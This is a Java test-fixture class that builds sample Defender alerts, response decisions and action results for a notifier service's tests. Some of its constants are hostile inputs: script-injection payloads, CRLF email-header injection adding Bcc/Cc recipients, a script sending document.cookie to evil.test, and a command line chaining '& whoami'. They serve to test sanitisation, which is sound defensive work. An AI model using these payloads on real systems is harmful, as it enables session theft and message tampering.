package io.mderesponse.notifier;

import io.mderesponse.contracts.defender.IsolationType;
import io.mderesponse.contracts.defender.Severity;
import io.mderesponse.contracts.event.AlertSummary;
import io.mderesponse.contracts.event.DecisionMade;
import io.mderesponse.contracts.event.DecisionOutcome;
import io.mderesponse.contracts.event.Event;
import io.mderesponse.contracts.event.FinalStatus;
import io.mderesponse.contracts.event.MachineActionCompleted;
import io.mderesponse.contracts.event.MachineActionKind;
import io.mderesponse.contracts.event.MachineActionRequested;
import io.mderesponse.contracts.event.MachineActionType;
import io.mderesponse.contracts.event.RequestIds;
import io.mderesponse.contracts.event.RequestedAction;
import io.mderesponse.contracts.event.ResponseActionCompleted;
import io.mderesponse.contracts.event.ResponseActionRequested;
import io.mderesponse.contracts.event.RuleAction;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.UUID;

/** Events as the decision and response services publish them, for tests. */
public final class Samples {

    public static final String MACHINE_ID = "1e5bc9d7e413ddd7902c2932e418702b84d0cc07";
    public static final String MACHINE_NAME = "ws-042.contoso.com";
    public static final String HOSTILE_TITLE = "Evil <script>alert(\"x\")</script> & co\r\nBcc: attacker@evil.test";

    public static final String HOSTILE_MACHINE = "<b onmouseover=alert(1)>ws-666</b>\r\nCc: cc@evil.test";
    public static final String HOSTILE_DESCRIPTION =
            "Look <script>fetch('https://evil.test/'+document.cookie)</script><img src=x onerror=alert(1)>";
    public static final String HOSTILE_COMMAND_LINE =
            "cmd.exe /c \"<a href=\\\"javascript:alert(1)\\\">click</a><iframe src=//evil.test></iframe>\" & whoami";
    public static final String HOSTILE_BCC_TITLE = "Ransomware\r\nBcc: attacker@evil.test\r\n\r\n<h1>gotcha</h1>";

    /** A file name an attacker chose, as an alert's evidence carries it into a quarantine request. */
    public static final String HOSTILE_FILE_NAME = "<img src=x onerror=alert(1)>inv\"oice\".exe\r\nBcc: x@evil.test";
    public static final String SHA1 = "a94a8fe5ccb19ba61c4c0873d391e987982fbbd3";

    private Samples() {
    }

    public static String uniqueAlertId() {
        return "da" + UUID.randomUUID().toString().replace("-", "");
    }

    public static AlertSummary alert(String alertId, String title, Severity severity) {
        return new AlertSummary(alertId, title, severity, "Execution", "WindowsDefenderAtp", MACHINE_ID, MACHINE_NAME,
                "Workstations", Instant.parse("2026-11-27T10:00:00Z"), Instant.parse("2026-11-27T09:59:00Z"),
                Instant.parse("2026-11-27T09:59:30Z"));
    }

    public static MachineActionCompleted isolation(AlertSummary alert, FinalStatus status, String reason,
            List<String> recipients) {
        return new MachineActionCompleted(UUID.randomUUID(), alert.alertId(), Instant.now(), Event.SCHEMA_VERSION,
                UUID.randomUUID(), UUID.randomUUID(), MachineActionType.Isolate, MACHINE_ID, alert, recipients,
                "7f8e9d0c-1b2a-4c3d-8e9f-0a1b2c3d4e5f", status, reason, Instant.parse("2026-11-27T10:00:05Z"),
                Instant.parse("2026-11-27T10:01:00Z"), null, null, null);
    }

    /** What a rule with {@code actions: [notify]} decides. */
    public static DecisionMade notifyOnly(AlertSummary alert, List<String> recipients) {
        return DecisionMade.forAlert(alert, "notify-medium", "test-1", Map.of("alert.severity", "Medium"),
                List.of(RuleAction.NOTIFY), null, DecisionOutcome.ACTED, recipients, null);
    }

    /** A notify-only decision about a hostile alert, whose rule read a hostile description and command line. */
    public static DecisionMade hostileNotifyOnly(String alertId, List<String> recipients) {
        AlertSummary alert = new AlertSummary(alertId, HOSTILE_BCC_TITLE, Severity.Medium, "Execution",
                "WindowsDefenderAtp", MACHINE_ID, HOSTILE_MACHINE, "Workstations", Instant.parse("2026-11-27T10:00:00Z"),
                Instant.parse("2026-11-27T09:59:00Z"), Instant.parse("2026-11-27T09:59:30Z"));
        return DecisionMade.forAlert(alert, "notify-medium", "test-1",
                Map.of("alert.description", HOSTILE_DESCRIPTION, "evidence.processCommandLine", HOSTILE_COMMAND_LINE),
                List.of(RuleAction.NOTIFY), null, DecisionOutcome.ACTED, recipients, null);
    }

    /** What the bundled rule decides for a High alert. */
    public static DecisionMade isolating(AlertSummary alert, List<String> recipients) {
        return DecisionMade.forAlert(alert, "isolate-high", "bundled-1", Map.of("alert.severity", "High"),
                List.of(RuleAction.ISOLATE, RuleAction.NOTIFY), IsolationType.Full, DecisionOutcome.ACTED,
                recipients, null);
    }

    /** A decision whose rule isolates, then collects an investigation package (the plan's order), and notifies. */
    public static DecisionMade isolatingAndCollecting(AlertSummary alert, List<String> recipients) {
        return acting(alert, recipients, "isolate-and-collect-high", List.of(RuleAction.ISOLATE, RuleAction.NOTIFY),
                MachineActionKind.ISOLATE, MachineActionKind.COLLECT_INVESTIGATION_PACKAGE);
    }

    /** A decision whose rule scans (quick), then quarantines a file with a hostile name, without isolating. */
    public static DecisionMade scanningAndQuarantining(AlertSummary alert, List<String> recipients) {
        return acting(alert, recipients, "scan-and-quarantine", List.of(RuleAction.NOTIFY),
                MachineActionKind.ANTIVIRUS_SCAN, MachineActionKind.STOP_AND_QUARANTINE_FILE);
    }

    /** A decision of {@code ruleId} asking for {@code kinds} in that order (parameters: Full, Quick, a hostile file). */
    public static DecisionMade acting(AlertSummary alert, List<String> recipients, String ruleId,
            List<RuleAction> actions, MachineActionKind... kinds) {
        List<RequestedAction> plan = java.util.Arrays.stream(kinds).map(kind -> {
            String sha1 = kind == MachineActionKind.STOP_AND_QUARANTINE_FILE ? SHA1 : null;
            UUID requestId = RequestIds.forAlert(alert.alertId(), ruleId, kind, sha1);
            return switch (kind) {
                case ISOLATE -> RequestedAction.isolate(requestId, IsolationType.Full);
                case ANTIVIRUS_SCAN -> RequestedAction.antivirusScan(requestId,
                        io.mderesponse.contracts.defender.ScanType.Quick);
                case STOP_AND_QUARANTINE_FILE -> RequestedAction.stopAndQuarantineFile(requestId, SHA1,
                        HOSTILE_FILE_NAME);
                default -> RequestedAction.of(requestId, kind);
            };
        }).toList();
        return DecisionMade.forAlert(alert, ruleId, "test-1", Map.of("alert.severity", String.valueOf(alert.severity())),
                actions, actions.contains(RuleAction.ISOLATE) ? IsolationType.Full : null, DecisionOutcome.ACTED,
                recipients, null, plan);
    }

    /** The isolation result of {@code decision}, as response-service publishes it (with the plan). */
    public static MachineActionCompleted isolationResult(DecisionMade decision, FinalStatus status, String reason) {
        MachineActionRequested request = MachineActionRequested.of(decision, MachineActionType.Isolate,
                decision.machineId(), "MDE Response: test");
        return MachineActionCompleted.of(request, "7f8e9d0c-1b2a-4c3d-8e9f-0a1b2c3d4e5f", status, reason,
                Instant.parse("2026-11-27T10:00:05Z"), Instant.parse("2026-11-27T10:01:00Z"));
    }

    /** The result of {@code decision}'s {@code kind} action, as response-service publishes it. */
    public static ResponseActionCompleted responseResult(DecisionMade decision, MachineActionKind kind,
            FinalStatus status, String reason) {
        RequestedAction action = decision.plan().stream().filter(a -> a.kind() == kind).findFirst().orElseThrow();
        ResponseActionRequested request = ResponseActionRequested.of(decision, action, decision.machineId(),
                "MDE Response: test");
        return ResponseActionCompleted.of(request, "0b1c2d3e-4f50-6172-8394-a5b6c7d8e9f0", status, reason,
                Instant.parse("2026-11-27T10:00:07Z"), Instant.parse("2026-11-27T10:03:00Z"));
    }

    /** What the bundled rule decides for a Medium alert. */
    public static DecisionMade noMatch(AlertSummary alert) {
        return DecisionMade.forAlert(alert, null, "bundled-1", Map.of(), List.of(), null, DecisionOutcome.NO_MATCH,
                List.of(), "No rule matched");
    }
}
